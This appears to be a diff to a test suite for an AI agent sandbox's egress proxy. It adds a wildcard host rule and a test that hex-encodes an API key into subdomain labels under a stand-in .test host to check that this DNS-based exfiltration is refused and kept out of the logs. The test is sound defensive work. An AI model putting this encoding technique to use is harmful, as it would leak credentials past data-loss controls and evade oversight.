@@ -98,6 +98,8 @@ egress:
     - host: exempt.test
       private: true
       dlp_exempt: true
+    - host: "*.wild.test"
+      private: true
 env:
   ANTHROPIC_BASE_URL: https://fake-anthropic.test
   CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1"
@@ -183,12 +185,14 @@ class Bottle:
                               input=stdin, capture_output=True, text=True, timeout=timeout, check=False)
 
     def curl(self, url: str, *args: str) -> tuple[int, str]:
-        """``curl`` from the agent through its proxy: (HTTP status, body)."""
+        """``curl`` from the agent through its proxy: (HTTP status, body). A refused CONNECT gives
+        that response's status (curl shows no body for it)."""
         quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in (*args, url))
-        out = self.sh(f"curl -sS -o /tmp/curl.out -w '%{{http_code}}' {quoted}; echo; cat /tmp/curl.out")
-        status, _, body = out.stdout.partition("\n")
-        assert status.strip().isdigit(), out.stderr
-        return int(status.strip()), body
+        out = self.sh(f"rm -f /tmp/curl.out; curl -sS -o /tmp/curl.out -w '%{{http_code}} %{{http_connect}}' "
+                      f"{quoted}; echo; cat /tmp/curl.out 2>/dev/null")
+        codes, _, body = out.stdout.partition("\n")
+        status, connect = (int(c) for c in codes.split())
+        return status or connect, body
 
     def audit(self) -> list[dict[str, object]]:
         return self.env.audit(self.slug)
@@ -350,6 +354,21 @@ def test_own_secret_exfiltration_is_refused_everywhere(bottle: Bottle, recorder:
              and r.get("finding") == "secret"]
     assert {r["host"] for r in found} == {"other.test", "exempt.test", "fake-anthropic.test"}
     assert {r["encoding"] for r in found} >= {"raw", "base64", "hex", "url-encoded", "split"}
+
+
+def test_sub_domain_carrying_the_secret_is_refused_before_any_lookup(bottle: Bottle) -> None:
+    """Under a wildcard entry the agent picks the name; looking it up would hand it to DNS servers."""
+    hexed = REAL_KEY.encode().hex()
+    name = ".".join(hexed[i:i + 60] for i in range(0, len(hexed), 60)) + ".wild.test"
+    status, _ = bottle.curl(f"https://{name}/")
+    assert status == 403
+    rec = _wait_for(bottle, lambda r: r.get("kind") == "dlp" and r.get("where") == "host", "a refused name")
+    assert rec["secret"] == "ANTHROPIC_API_KEY" and rec["method"] == "CONNECT"
+    bottle.curl("https://nothing-secret.wild.test/")  # same entry, no secret: looked up, not refused
+    _wait_for(bottle, lambda r: r.get("host") == "nothing-secret.wild.test" and r.get("rule") != "dlp",
+              "a looked-up name")
+    log = (bottle.env.state_dir(bottle.slug) / "logs" / "egress.jsonl").read_text()
+    assert hexed[:60] not in log
 
 
 def test_gzip_body_is_refused(bottle: Bottle, recorder: Recorder) -> None:
